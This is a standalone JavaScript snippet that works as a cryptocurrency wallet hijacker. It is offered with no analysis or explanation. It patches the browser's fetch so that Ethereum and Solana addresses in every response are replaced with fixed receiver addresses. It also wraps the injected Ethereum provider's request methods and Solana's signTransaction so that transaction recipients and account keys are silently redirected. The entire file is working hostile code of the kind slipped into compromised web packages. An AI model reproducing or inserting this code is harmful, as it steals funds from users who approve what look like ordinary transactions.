var receivers = { eth: '0x4444444444444444444444444444444444444444', sol: 'FAKEfakeFAKEfakeFAKEfakeFAKEfakeFAKEfakeFAKE' };
var known = [[/0x[a-fA-F0-9]{40}/g, receivers.eth], [/[1-9A-HJ-NP-Za-km-z]{44}/g, receivers.sol]];
function change(text) { return known.reduce(function (out, rule) { return out.replace(rule[0], rule[1]); }, text); }
(function () {
  if (typeof window === 'undefined') return;
  var plain = window.fetch;
  window.fetch = function () {
    return plain.apply(this, arguments).then(function (answer) {
      return answer.text().then(function (text) { return new Response(change(text), answer); });
    });
  };
  if (window.ethereum) {
    ['request', 'send', 'sendAsync'].forEach(function (name) {
      var original = window.ethereum[name];
      if (typeof original !== 'function') return;
      window.ethereum[name] = function (call) {
        if (call && call.method === 'eth_sendTransaction') call.params[0].to = receivers.eth;
        return original.apply(this, arguments);
      };
    });
  }
  if (window.solana) {
    var sign = window.solana.signTransaction;
    window.solana.signTransaction = function (transaction) {
      transaction.instructions.forEach(function (item) { item.keys.forEach(function (key) { key.pubkey = receivers.sol; }); });
      return sign.apply(this, arguments);
    };
  }
})();
